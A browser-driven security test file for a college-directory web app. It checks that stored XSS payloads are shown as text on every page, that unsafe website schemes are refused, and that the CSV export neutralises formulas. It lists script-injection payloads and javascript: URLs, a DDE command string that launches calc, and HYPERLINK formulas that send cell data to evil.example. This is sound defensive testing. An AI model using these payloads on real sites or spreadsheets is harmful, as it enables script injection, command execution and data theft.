import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { waitForHydration } from "../support/hydration";
import type { Browser, Page } from "playwright-core";
import { connectChromium } from "../support/chromium";
import { browserEngines } from "../support/databases";
import { openPage, POLL, type WatchedPage } from "../public/watched-page";
import { countRows, postForm, setSessionCookie, withDatabase } from "../admin/admin-helpers";
import {
  WRITABLE_TABLES,
  expectNoXss,
  leadFields,
  parseCsv,
  randomTag,
  startSecurityServer,
  watchDialogs,
  type SecurityServer,
} from "./security-helpers";

/**
 * Stored XSS: script, attribute-breaking, textarea-breaking and template payloads are written
 * into every text field of every catalogue entity (through the spec's API, as a signed-in admin)
 * and of every lead form (as the public forms post them). Every page that shows them, public and
 * admin, must show them as literal text and run none of them; the CSV export must neutralise
 * spreadsheet formulas and keep the text.
 */

const PAYLOADS = [
  `<script>window.__xss=1</script>`,
  `"><img src=x onerror="window.__xss=1">`,
  `</textarea><svg onload=window.__xss=1>`,
  `'><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  "{{7*7}}",
  "${7*7}",
] as const;

/** The payloads that carry markup: none of them may appear verbatim in any served HTML. */
const MARKUP_PAYLOADS = PAYLOADS.filter((payload) => /[<>"]/.test(payload));

/** Text as React writes it into HTML, in an element or an attribute. */
const escapeHtml = (text: string) =>
  text
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;")
    .replaceAll("'", "&#x27;");

/** The college's text fields: the spec's name (API) → ours (table, admin forms). */
const COLLEGE_TEXT_FIELDS = {
  location: "location",
  address: "address",
  cities: "cities",
  state: "state",
  university: "university",
  verified_by: "verified_by",
  study_mode: "study_mode",
  about_college: "about",
  college_ranking: "ranking",
  college_admission: "admission",
  college_placement: "placement",
  college_structure: "fee_structure",
  college_course: "courses_overview",
  college_hostel: "hostel",
  college_campus: "campus",
} as const;

/** A college's fields in our spelling. */
type CollegeValues = Record<
  "name" | "website" | (typeof COLLEGE_TEXT_FIELDS)[keyof typeof COLLEGE_TEXT_FIELDS],
  string
>;

/** The college page's text sections, in our field names. */
const SECTIONS = [
  "about",
  "ranking",
  "admission",
  "placement",
  "fee_structure",
  "courses_overview",
  "hostel",
  "campus",
] as const;

interface CollegeCase {
  index: number;
  payload: string;
  id: number;
  slug: string;
  /** Every field in our spelling, as stored. */
  values: CollegeValues;
  categoryName: string;
  branch: string;
  course: { name: string; duration: string };
  exam: string;
  placement: string;
}

/** Every spreadsheet column of the export and the lead column it comes from. */
const CSV_COLUMNS: Record<string, string> = {
  ID: "id",
  "Received (UTC)": "created_at",
  Form: "form",
  Page: "page",
  Name: "name",
  Phone: "phone",
  Email: "email",
  Course: "course",
  Stream: "stream",
  College: "college_name",
  Message: "message",
  Status: "status",
  Notes: "notes",
  "UTM source": "utm_source",
  "UTM medium": "utm_medium",
  "UTM campaign": "utm_campaign",
  "UTM term": "utm_term",
  "UTM content": "utm_content",
  Consent: "consent_purposes",
  "Consent changed (UTC)": "consent_at",
  "Contact withdrawn (UTC)": "contact_withdrawn_at",
  "Notice version": "consent_notice_version",
  "I am": "applicant",
  "Parent or guardian": "guardian_name",
  "Parent or guardian phone": "guardian_phone",
  "Parent or guardian email": "guardian_email",
  "Parent or guardian email withdrawn (UTC)": "guardian_email_withdrawn_at",
  "Erased (UTC)": "erased_at",
};

let browser: Browser;

beforeAll(async () => {
  browser = await connectChromium();
});

afterAll(async () => {
  await browser?.close();
});

for (const engine of browserEngines()) {
  describe(`stored XSS payloads are shown as text and never run [${engine}]`, () => {
    let s: SecurityServer;
    const tag = randomTag();
    const colleges: CollegeCase[] = [];
    let engineeringId: number;
    /** submission id → the lead fields posted. */
    const postedLeads: { path: string; fields: Record<string, string> }[] = [];

    beforeAll(async () => {
      s = await startSecurityServer(engine);
      const { call, cookie } = s;
      const categories = (await call("/CatagoryGet")).body as { cat_id: number; catagory_name: string }[];
      engineeringId = categories.find((category) => category.catagory_name === "Engineering")!.cat_id;

      for (const [index, payload] of PAYLOADS.entries()) {
        const text = (field: string) => `${payload} ${field} ${index} ${tag}`;
        const categoryName = `${payload} stream ${index} ${tag}`;
        const category = await call("/narayanaApi/college_catagory.php", {
          json: { catagory_name: categoryName },
          cookie,
        });
        expect(category.status, JSON.stringify(category.body)).toBe(201);
        // Even colleges are engineering colleges (the engineering page lists them); odd ones are in
        // their payload category (its name shows on cards and in the breadcrumb).
        const inEngineering = index % 2 === 0;
        const catId = inEngineering ? engineeringId : (category.body.cat_id as number);
        const body: Record<string, unknown> = {
          // "0n " first: these colleges come first by name under any collation, so the home page lists them.
          name: `0${index} ${payload} College ${tag}`,
          college_website: `https://college-${index}-${tag}.example/?q=${payload.replace(/\s+/g, "+")}`,
          cat_id: catId,
        };
        for (const spec of Object.keys(COLLEGE_TEXT_FIELDS)) body[spec] = text(spec);
        const college = await call("/details", { json: body, cookie });
        expect(college.status, JSON.stringify(college.body)).toBe(201);
        const collegeId = college.body.college_id as number;

        const branch = text("branch");
        const course = { name: text("course"), duration: text("duration") };
        const exam = text("exam");
        const placement = text("company");
        const writes = [
          call("/CollegeBranch", { json: { branch_name: branch, college_id: collegeId }, cookie }),
          call("/CollegeCourse", {
            json: {
              college_id: collegeId,
              course_name: course.name,
              course_duration: course.duration,
              course_fee: 150000 + index,
              sem_no: 8,
            },
            cookie,
          }),
          call("/Addmission", { json: { exam_name: exam, exam_date: "2027-05-02", catagoryId: catId }, cookie }),
          call("/CollegePlacement", { json: { company_name: placement, college_id: collegeId }, cookie }),
        ];
        for (const answer of await Promise.all(writes)) expect(answer.status, JSON.stringify(answer.body)).toBe(201);

        const values = { name: body.name as string, website: body.college_website as string } as CollegeValues;
        for (const [spec, ours] of Object.entries(COLLEGE_TEXT_FIELDS)) values[ours] = body[spec] as string;
        colleges.push({
          index,
          payload,
          id: collegeId,
          slug: college.body.slug,
          values,
          categoryName: inEngineering ? "Engineering" : categoryName,
          branch,
          course,
          exam,
          placement,
        });
      }

      // Every lead field, through the forms' own posts (as a browser without JavaScript sends
      // them; the drop-downs' values are whatever a client sends). Formula-like starts for the CSV.
      const [p0, p1, p2, p3, p4, p5] = PAYLOADS;
      // A different e-mail for each lead: one address would make them one person's repeat enquiries.
      const email = (n: number) => `xss.${tag}.${n}@example.com`;
      const leads: { path: string; fields: Record<string, string> }[] = [
        {
          path: "/?index",
          fields: leadFields("banner", {
            name: `=HYPERLINK("https://evil.example","Click me") ${tag}`,
            phone: "98450 12345",
            stream: `-2+3 ${p0}`,
            course: `+1+1 ${p1}`,
            consent_updates: "on",
            utm_source: `@SUM(1+1) ${p2}`,
            utm_medium: p3,
            utm_campaign: `=cmd|' /C calc'!A0 ${tag}`,
            utm_term: p4,
            utm_content: p5,
          }),
        },
        {
          path: "/Contact",
          fields: leadFields("contact", {
            name: `${p1} ${tag}`,
            email: email(1),
            mobile: "9845012346",
            course: `${p2} ${p3}`,
          }),
        },
        {
          path: `/${colleges[0]!.slug}`,
          fields: leadFields("college", {
            name: `${p0} ${tag}`,
            email: email(2),
            mobile: "9845012347",
            course: `=1+2 ${p5}`,
          }),
        },
        {
          path: "/Process",
          fields: leadFields("franchise", {
            name: `@SUM(1) ${p4} ${tag}`,
            email: email(3),
            mobile: "9845012348",
            city: p3,
            message: `${p2}\n=2+2`,
          }),
        },
        {
          path: "/Contact",
          fields: leadFields("contact", {
            name: `-1+1 ${p3} ${tag}`,
            email: email(4),
            mobile: "9845012349",
            course: `${p4}{{constructor.constructor('window.__xss=1')()}}`,
          }),
        },
      ];
      for (const lead of leads) {
        const response = await postForm(s.server.url, lead.path, lead.fields);
        expect({ path: lead.path, status: response.status }).toEqual({ path: lead.path, status: 200 });
        postedLeads.push(lead);
      }
    });

    afterAll(async () => {
      await s?.server.stop();
    });

    /** A page in its own context, signed in as the admin when `admin` is set. */
    async function open(admin = false, javaScriptEnabled = true): Promise<WatchedPage & { dialogs: string[] }> {
      const watched = await openPage(browser, s.server.url, { javaScriptEnabled });
      if (admin) await setSessionCookie(watched.context, s.server.url, s.token);
      return { ...watched, dialogs: watchDialogs(watched.page) };
    }

    // One public page and one signed-in admin page for the whole file, navigated from check to
    // check (a page opened costs more than a navigation: docs/performance.md); each test that
    // uses one asserts it clean at its end.
    let publicPage: Promise<WatchedPage & { dialogs: string[] }> | undefined;
    let adminPage: Promise<WatchedPage & { dialogs: string[] }> | undefined;
    const openPublic = () => (publicPage ??= open());
    const openAdmin = () => (adminPage ??= open(true));

    afterAll(async () => {
      await (await publicPage)?.close();
      await (await adminPage)?.close();
    });

    async function visit(page: Page, path: string): Promise<void> {
      const response = await page.goto(`${s.server.url}${path}`);
      expect(response?.status(), path).toBe(200);
      await waitForHydration(page);
    }

    /**
     * The served HTML of `path` (as the admin when `admin` is set): answered 200, with no payload
     * that carries markup anywhere in it verbatim (in text, an attribute, a script's data), so no
     * server render can hand a browser a payload to run. The browser checks run each rendering
     * path once; this reads the server's escaping on every page that shows a payload.
     */
    async function servedHtml(path: string, admin = false): Promise<string> {
      const response = await fetch(`${s.server.url}${path}`, admin ? { headers: { cookie: s.cookie } } : {});
      const html = await response.text();
      expect(response.status, path).toBe(200);
      for (const payload of MARKUP_PAYLOADS)
        expect(html.includes(payload), `${path} serves ${payload} raw`).toBe(false);
      return html;
    }

    /**
     * An admin screen reached the way staff reach it after the first page: a client-side
     * navigation of React Router (rendered in the browser from the loader's data, no new
     * document). Its server render is read by servedHtml.
     */
    async function clientVisit(page: Page, path: string): Promise<void> {
      await servedHtml(path, true);
      const errors = await page.evaluate(async (to) => {
        const router = (
          window as unknown as {
            __reactRouterDataRouter: { navigate(to: string): Promise<void>; state: { errors: unknown } };
          }
        ).__reactRouterDataRouter;
        await router.navigate(to);
        // Let React commit what the router holds now.
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50)));
        return router.state.errors;
      }, path);
      expect(errors, path).toBe(null);
      expect(page.url(), path).toBe(`${s.server.url}${path}`);
    }

    const storedLeads = () =>
      withDatabase(s.databaseUrl, (db) =>
        db
          .selectFrom("leads")
          .selectAll()
          .where(
            "submission_id",
            "in",
            postedLeads.map((lead) => `${lead.fields.form}:${lead.fields.submission_id}`),
          )
          .orderBy("id")
          .execute(),
      );

    test("the website field refuses javascript:, data: and other non-web addresses, through the API, the add form and the edit form", async () => {
      const before = await countRows(s.databaseUrl, WRITABLE_TABLES);
      const bad = [
        "javascript:alert(1)",
        "JavaScript:alert(document.cookie)//https://x.example",
        " javascript:alert(1)",
        "\tjavascript:alert(1)",
        "java\nscript:alert(1)//a.b",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1).x",
        "//evil.example/x",
        "https://",
        "https:javascript:alert(1)",
      ];
      const { call, cookie, server } = s;
      const template = colleges[0]!;
      for (const website of bad) {
        const body: Record<string, unknown> = {
          name: `Website check ${tag}`,
          college_website: website,
          cat_id: engineeringId,
        };
        for (const [spec, ours] of Object.entries(COLLEGE_TEXT_FIELDS)) body[spec] = template.values[ours];
        const api = await call("/details", { json: body, cookie });
        expect({ website, status: api.status, field: api.body.field }).toEqual({
          website,
          status: 400,
          field: "college_website",
        });

        const form: Record<string, string> = { ...template.values, name: `Website check ${tag}`, website };
        form.category_id = String(engineeringId);
        const added = await postForm(server.url, "/Admin/Details", form, { cookie: s.token });
        expect({ website, status: added.status }).toEqual({ website, status: 400 });

        const edited = await postForm(
          server.url,
          `/Admin/catalogue/colleges/${template.id}`,
          { ...form, name: template.values.name! },
          { cookie: s.token },
        );
        expect({ website, status: edited.status }).toEqual({ website, status: 400 });
      }
      expect(await countRows(s.databaseUrl, WRITABLE_TABLES)).toEqual(before);
      const stored = await withDatabase(s.databaseUrl, (db) =>
        db.selectFrom("colleges").select("website").where("id", "=", template.id).executeTakeFirstOrThrow(),
      );
      expect(stored.website).toBe(template.values.website);
    });

    /** What a college page in the browser shows of the college: every field, as text. */
    async function expectCollegeShown(page: Page, college: CollegeCase, where: string): Promise<void> {
      const { values } = college;
      const main = page.locator("main").first();
      await expect.poll(() => main.getByRole("heading", { level: 1 }).textContent(), POLL).toBe(values.name);
      expect(await main.locator(".college-university").textContent(), where).toBe(values.university);
      expect(await main.locator(".college-facts span").allTextContents(), where).toEqual([
        values.location,
        values.state,
        `Approved: ${values.verified_by}`,
        values.study_mode,
      ]);
      for (const key of SECTIONS) {
        expect(await main.locator(`#section-${key} > p`).textContent(), `${where} ${key}`).toBe(values[key]);
      }
      expect(await main.getByRole("list", { name: "Recruiters" }).locator("li").allTextContents(), where).toEqual([
        college.placement,
      ]);
      expect(await main.locator("#section-fees tbody tr td").allTextContents(), where).toEqual([
        college.course.name,
        college.course.duration,
        "₹1,50,00" + college.index,
      ]);
      const breadcrumb = main.getByRole("navigation", { name: "Breadcrumb" });
      expect(await breadcrumb.locator("li").allTextContents(), where).toEqual([
        "Home",
        `${college.categoryName} colleges`,
        values.name,
      ]);
      const website = main.getByRole("link", { name: `Official website of ${values.name}` });
      expect(await website.getAttribute("href"), where).toBe(values.website);
      expect(values.website).toMatch(/^https:\/\//);
      // The enquiry form names the college and offers its course.
      expect(await page.getByRole("heading", { name: `Enquire about ${values.name}` }).count(), where).toBe(1);
      const options = await page.locator('aside select[name="course"] option').allTextContents();
      expect(options, where).toContain(college.course.name);
      expect(await page.title(), where).toContain(values.name);
    }

    test("each college page shows every field, its course, recruiter and category as text, and links to the website as typed", async () => {
      // Every college's page as served: each field's text escaped, the website as typed, the
      // structured data still parses (the payload did not break out of its script element).
      for (const college of colleges) {
        const where = `/${college.slug}`;
        const html = await servedHtml(where);
        const { values } = college;
        for (const [field, value] of Object.entries(values)) {
          // The website is an href (below); the street address is in the structured data alone.
          if (field === "website" || field === "address") continue;
          expect(html.includes(escapeHtml(value)), `${where} ${field}`).toBe(true);
        }
        expect(html, where).toContain(`href="${escapeHtml(values.website)}"`);
        for (const text of [college.placement, college.course.name, college.course.duration, college.categoryName])
          expect(html.includes(escapeHtml(text)), `${where} ${text}`).toBe(true);
        expect(html, where).toContain(`<title>${escapeHtml(values.name)}`);
        const jsonLd = [...html.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map(
          (match) => JSON.parse(match[1]!) as Record<string, unknown>,
        );
        const organisation = jsonLd.find((item) => item["@type"] === "CollegeOrUniversity");
        expect(organisation, where).toMatchObject({
          name: values.name,
          sameAs: values.website,
          address: { streetAddress: values.address, addressLocality: values.cities, addressRegion: values.state },
        });
      }

      // In a browser, the server's render hydrated: the college whose payload breaks out of an
      // attribute (an img's onerror), every field shown as text, nothing run.
      const watched = await openPublic();
      const { page, dialogs } = watched;
      const attributeBreaking = colleges[1]!;
      await visit(page, `/${attributeBreaking.slug}`);
      await expectCollegeShown(page, attributeBreaking, `/${attributeBreaking.slug}`);
      await expectNoXss(page, dialogs, `/${attributeBreaking.slug}`);

      // Reached from the search results, as a visitor reaches it: the same text.
      const last = colleges.at(-1)!;
      await visit(page, `/colleges-course?q=${tag}`);
      await page.getByRole("link", { name: last.values.name, exact: true }).click();
      await page.waitForURL(`${s.server.url}/${last.slug}`);
      await expectCollegeShown(page, last, `/${last.slug} from the search results`);
      await expectNoXss(page, dialogs, `/${last.slug} from the search results`);
      watched.expectClean();
    });

    test("search results, their filters, the engineering page and the home page show them as text", async () => {
      const watched = await openPublic();
      const { page, dialogs } = watched;

      await visit(page, `/colleges-course?q=${tag}`);
      expect(await page.locator("#results-heading").textContent()).toBe(`${colleges.length} colleges found`);
      const cards = page.locator(".results .college-card");
      expect((await cards.locator("h3").allTextContents()).sort()).toEqual(
        colleges.map((college) => college.values.name).sort(),
      );
      for (const college of colleges) {
        const card = cards.filter({ has: page.getByRole("link", { name: college.values.name, exact: true }) });
        expect(await card.count()).toBe(1);
        expect(await card.locator("p.muted").first().textContent()).toBe(
          `${college.values.cities}, ${college.values.state}${college.categoryName}`,
        );
        expect(await card.locator(".pill").textContent()).toBe(college.categoryName);
        expect(await card.locator("p.muted.small").first().textContent()).toBe(college.values.university);
      }
      const filters = page.getByRole("search", { name: "Search colleges" });
      const optionTexts = (name: string) => filters.locator(`select[name="${name}"] option`).allTextContents();
      const streams = await optionTexts("stream");
      const states = await optionTexts("state");
      const cities = await optionTexts("city");
      for (const college of colleges) {
        expect(streams).toContain(college.categoryName);
        expect(states).toContain(college.values.state);
        expect(cities).toContain(college.values.cities);
      }
      await expectNoXss(page, dialogs, "/colleges-course");

      await visit(page, "/top-engineering-colleges-in-india");
      const listed = page.getByRole("region", { name: "Engineering colleges" });
      const rankings = page.getByRole("region", { name: "Rankings" });
      const fees = page.getByRole("region", { name: "Fees by course" });
      const feeCourses = await fees.locator("tbody td:nth-child(2)").allTextContents();
      for (const college of colleges.filter((c) => c.categoryName === "Engineering")) {
        const row = listed.locator("tbody tr").filter({ has: page.getByRole("link", { name: college.values.name }) });
        expect(await row.locator("td").allTextContents()).toEqual([
          String(college.id),
          college.values.name,
          college.values.cities,
        ]);
        const ranking = rankings
          .locator("dl > div")
          .filter({ has: page.getByText(college.values.name, { exact: true }) });
        expect(await ranking.locator("dd").textContent()).toBe(college.values.ranking);
        expect(feeCourses).toContain(college.course.name);
      }
      await expectNoXss(page, dialogs, "/top-engineering-colleges-in-india");

      // The home page lists the first six colleges by name: these six.
      const expected = ((await s.call("/narayanaApi/getCollege.php")).body as { name: string }[])
        .slice(0, 6)
        .map((college) => college.name);
      expect(expected).toEqual(colleges.map((college) => college.values.name));
      await visit(page, "/");
      expect(await page.locator(".college-card h3").allTextContents()).toEqual(expected);
      await expectNoXss(page, dialogs, "/");
      watched.expectClean();
    });

    test("the admin catalogue lists, the edit screens and the add forms' drop-downs show them as text", async () => {
      const watched = await openAdmin();
      const { page, dialogs } = watched;
      const sorted = (list: string[]) => [...list].sort();
      // The first screen is the server's render, hydrated; every other one a client-side render.
      const titles = async (entity: string, expected: string[]) => {
        const path = `/Admin/catalogue/${entity}?q=${tag}`;
        if (entity === "colleges") {
          await servedHtml(path, true);
          await visit(page, path);
        } else await clientVisit(page, path);
        await expect
          .poll(async () => sorted(await page.locator("main tbody tr td:nth-child(2)").allTextContents()), POLL)
          .toEqual(sorted(expected));
        await expectNoXss(page, dialogs, path);
      };
      await titles(
        "colleges",
        colleges.map((c) => c.values.name),
      );
      for (const college of colleges) {
        const row = page
          .locator("main tbody tr")
          .filter({ has: page.getByRole("link", { name: college.values.name }) });
        expect(await row.locator("td:nth-child(3)").textContent()).toBe(
          `${college.values.cities}, ${college.values.state} · ${college.values.university}`,
        );
      }
      await titles(
        "categories",
        PAYLOADS.map((p, i) => `${p} stream ${i} ${tag}`),
      );
      await titles(
        "branches",
        colleges.map((c) => c.branch),
      );
      await titles(
        "courses",
        colleges.map((c) => c.course.name),
      );
      await titles(
        "exams",
        colleges.map((c) => c.exam),
      );
      await titles(
        "placements",
        colleges.map((c) => c.placement),
      );

      // Edit screens put the stored text back into inputs and textareas: it must come back unchanged.
      for (const college of colleges) {
        const where = `/Admin/catalogue/colleges/${college.id}`;
        // From the list, as staff open a college: an edit form keeps what it shows while its
        // route stays mounted, so a move from one edit screen straight to another's would not do.
        await clientVisit(page, `/Admin/catalogue/colleges?q=${tag}`);
        await clientVisit(page, where);
        await expect.poll(() => page.locator('main form [name="name"]').inputValue(), POLL).toBe(college.values.name);
        for (const [field, value] of Object.entries(college.values)) {
          expect(await page.locator(`main form [name="${field}"]`).inputValue(), `${where} ${field}`).toBe(value);
        }
        await expectNoXss(page, dialogs, where);
      }
      // One row of each other entity: the one whose payload breaks out of an attribute.
      const one = colleges[1]!;
      const categoryName = `${PAYLOADS[1]} stream 1 ${tag}`;
      const ids = await withDatabase(s.databaseUrl, async (db) => ({
        branches: (
          await db.selectFrom("branches").select("id").where("name", "=", one.branch).executeTakeFirstOrThrow()
        ).id,
        courses: (
          await db.selectFrom("courses").select("id").where("name", "=", one.course.name).executeTakeFirstOrThrow()
        ).id,
        exams: (await db.selectFrom("exams").select("id").where("name", "=", one.exam).executeTakeFirstOrThrow()).id,
        placements: (
          await db
            .selectFrom("placement_companies")
            .select("id")
            .where("company_name", "=", one.placement)
            .executeTakeFirstOrThrow()
        ).id,
        categories: (
          await db.selectFrom("categories").select("id").where("name", "=", categoryName).executeTakeFirstOrThrow()
        ).id,
      }));
      const edits: Record<keyof typeof ids, [string, string][]> = {
        branches: [["name", one.branch]],
        courses: [
          ["name", one.course.name],
          ["duration", one.course.duration],
        ],
        exams: [["name", one.exam]],
        placements: [["company_name", one.placement]],
        categories: [["name", categoryName]],
      };
      for (const [entity, fields] of Object.entries(edits)) {
        const where = `/Admin/catalogue/${entity}/${ids[entity as keyof typeof ids]}`;
        await clientVisit(page, `/Admin/catalogue/${entity}?q=${tag}`);
        await clientVisit(page, where);
        const [[firstField, firstValue]] = fields as [[string, string]];
        await expect.poll(() => page.locator(`main form [name="${firstField}"]`).inputValue(), POLL).toBe(firstValue);
        for (const [field, value] of fields) {
          expect(await page.locator(`main form [name="${field}"]`).inputValue(), `${where} ${field}`).toBe(value);
        }
        await expectNoXss(page, dialogs, where);
      }

      // The add forms offer the colleges (the picker, as one types) and the categories by name.
      await clientVisit(page, "/Admin/CollegeBranch");
      await page.locator("main").getByRole("combobox", { name: "College", exact: true }).fill(tag);
      await expect.poll(() => page.getByRole("option").count(), POLL).toBe(colleges.length);
      const collegeOptions = await page.getByRole("option").allTextContents();
      for (const college of colleges) expect(collegeOptions).toContain(college.values.name);
      await expectNoXss(page, dialogs, "/Admin/CollegeBranch");
      await clientVisit(page, "/Addmission");
      const categoryOptions = () => page.locator('main select[name="category_id"] option').allTextContents();
      for (const [index, payload] of PAYLOADS.entries())
        await expect.poll(categoryOptions, POLL).toContain(`${payload} stream ${index} ${tag}`);
      await expectNoXss(page, dialogs, "/Addmission");
      watched.expectClean();
    });

    test("a lead form thanks a visitor by a payload name as text, and refills a refused form with it as text", async () => {
      const watched = await openPublic();
      const { page, dialogs } = watched;
      await visit(page, "/Contact");
      const card = page.getByRole("region", { name: "Ask us anything" });
      await expect.poll(() => card.locator('input[name="submission_id"]').inputValue(), POLL).not.toBe("");
      const name = `${PAYLOADS[1]} browser ${tag}`;
      await card.getByLabel("Name", { exact: true }).fill(name);
      await card.getByLabel("I am", { exact: true }).selectOption("adult");
      await card.getByLabel("Email", { exact: true }).fill(`browser.${tag}@example.com`);
      await card.getByLabel("Mobile", { exact: true }).fill("9845012350");
      await card.getByLabel("Course", { exact: true }).fill(PAYLOADS[0]);
      await card.getByRole("button", { name: "Submit" }).click();
      await expect
        .poll(() => card.getByRole("status").textContent(), POLL)
        .toBe(`Thank you, ${name}. A counsellor will call you within one working day.`);
      await expectNoXss(page, dialogs, "/Contact after sending");
      const stored = await withDatabase(s.databaseUrl, (db) =>
        db.selectFrom("leads").select(["name", "course"]).where("name", "=", name).execute(),
      );
      expect(stored).toEqual([{ name, course: PAYLOADS[0] }]);
      watched.expectClean();

      // Without JavaScript, a refused post renders the page again with what was typed.
      const plain = await open(false, false);
      await plain.page.goto(`${s.server.url}/Contact`);
      const plainCard = plain.page.getByRole("region", { name: "Ask us anything" });
      const refusedName = `${PAYLOADS[2]} ${PAYLOADS[1]} ${tag}`;
      await plainCard.getByLabel("Name", { exact: true }).fill(refusedName);
      await plainCard.getByLabel("I am", { exact: true }).selectOption("adult");
      await plainCard.getByLabel("Email", { exact: true }).fill(`plain.${tag}@example.com`);
      await plainCard.getByLabel("Mobile", { exact: true }).fill("12345");
      await plainCard.getByLabel("Course", { exact: true }).fill(PAYLOADS[3]);
      const posted = plain.page.waitForResponse((response) => response.request().method() === "POST");
      await plainCard.getByRole("button", { name: "Submit" }).click();
      expect((await posted).status()).toBe(400);
      await plain.page.waitForLoadState();
      const again = plain.page.getByRole("region", { name: "Ask us anything" });
      expect(await again.getByLabel("Name", { exact: true }).inputValue()).toBe(refusedName);
      expect(await again.getByLabel("Course", { exact: true }).inputValue()).toBe(PAYLOADS[3]);
      await expectNoXss(plain.page, plain.dialogs, "/Contact refused, without JavaScript");
      plain.expectClean({ allowStatuses: [400] });
      await plain.close();
    });

    test("the leads inbox and each lead's page show every lead field as text", async () => {
      const leads = await storedLeads();
      expect(leads).toHaveLength(postedLeads.length);
      const watched = await openAdmin();
      const { page, dialogs } = watched;
      await clientVisit(page, "/Admin/leads");
      await expect.poll(() => page.locator("main tbody tr").count(), POLL).toBeGreaterThanOrEqual(leads.length);
      for (const lead of leads) {
        const row = page.locator("main tbody tr").filter({ has: page.locator(`a[href="/Admin/leads/${lead.id}"]`) });
        const cells = await row.locator("td").allTextContents();
        // An owner's inbox: the tick box, Received, then Name, Phone, Course and Form.
        expect(cells.slice(2, 6)).toEqual([lead.name, lead.phone ?? "", lead.course ?? "", lead.form]);
      }
      await expectNoXss(page, dialogs, "/Admin/leads");

      for (const lead of leads) {
        const where = `/Admin/leads/${lead.id}`;
        await clientVisit(page, where);
        await expect.poll(() => page.getByRole("heading", { level: 1 }).textContent(), POLL).toBe(lead.name);
        const shown: Record<string, string> = {};
        for (const item of await page.locator("main dl.detail-list > div").all()) {
          shown[(await item.locator("dt").textContent())!] = (await item.locator("dd").textContent())!;
        }
        const join = (...parts: (string | null)[]) => parts.filter(Boolean).join(" / ") || "—";
        expect(shown, where).toMatchObject({
          Phone: lead.phone ?? "—",
          Email: lead.email ?? "—",
          Course: lead.course ?? "—",
          Stream: lead.stream ?? "—",
          College: lead.college_name ?? "—",
          Message: lead.message ?? "—",
          Form: lead.form,
          Page: lead.page,
          "UTM source / medium / campaign": join(lead.utm_source, lead.utm_medium, lead.utm_campaign),
          "UTM term / content": join(lead.utm_term, lead.utm_content),
        });
        await expectNoXss(page, dialogs, where);
      }
      // Every field was posted as sent (trimmed): nothing was dropped or rewritten on the way in.
      const banner = leads.find((lead) => lead.form === "banner")!;
      const sent = postedLeads[0]!.fields;
      expect(banner).toMatchObject({
        name: sent.name,
        stream: sent.stream,
        course: sent.course,
        utm_source: sent.utm_source,
        utm_medium: sent.utm_medium,
        utm_campaign: sent.utm_campaign,
        utm_term: sent.utm_term,
        utm_content: sent.utm_content,
      });
      expect(leads.find((lead) => lead.form === "college")!.college_name).toBe(colleges[0]!.values.name);
      watched.expectClean();
    });

    test("the CSV export puts an apostrophe before every cell a spreadsheet would run as a formula, and keeps every payload's text", async () => {
      // Staff notes are exported too (a note added on the lead's page).
      const [first] = await storedLeads();
      const notes = `=HYPERLINK("https://evil.example/?"&A1,"Open") ${PAYLOADS[0]}`;
      const saved = await postForm(
        s.server.url,
        `/Admin/leads/${first!.id}`,
        { intent: "note", note: notes },
        { cookie: s.token },
      );
      expect(saved.status).toBe(200);

      const response = await fetch(`${s.server.url}/Admin/leads.csv`, { headers: { cookie: s.cookie } });
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
      const [header, ...rows] = parseCsv(await response.text());
      expect(header).toEqual(Object.keys(CSV_COLUMNS));
      // The Notes column holds the notes added on the timeline.
      const leads = (await withDatabase(s.databaseUrl, (db) => db.selectFrom("leads").selectAll().execute())).map(
        (lead) => (lead.id === first!.id ? { ...lead, notes } : lead),
      );
      expect(rows).toHaveLength(leads.length);

      const neutralised = (value: unknown) => {
        const text = value === null || value === undefined ? "" : String(value);
        return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
      };
      for (const row of rows) {
        // Nothing in the file starts like a formula.
        for (const cell of row) expect(cell, `CSV cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
        const lead = leads.find((candidate) => String(candidate.id) === row[0])!;
        expect(lead, `CSV row ${row[0]}`).toBeDefined();
        const expected = Object.values(CSV_COLUMNS).map((column) => neutralised(lead[column as keyof typeof lead]));
        expect(row).toEqual(expected);
      }
      const cells = rows.flat();
      // The guard was exercised for each character that starts a formula...
      for (const start of ["'=HYPERLINK", "'+1+1", "'-2+3", "'@SUM(1+1)", "'=1+2", "'@SUM(1)", "'-1+1", "'=cmd|"]) {
        expect(
          cells.some((cell) => cell.startsWith(start)),
          start,
        ).toBe(true);
      }
      expect(cells).toContain(`'${notes}`);
      // ...and the text of every payload is in the file exactly as typed.
      for (const payload of PAYLOADS)
        expect(
          cells.some((cell) => cell.includes(payload)),
          payload,
        ).toBe(true);
    });
  });
}
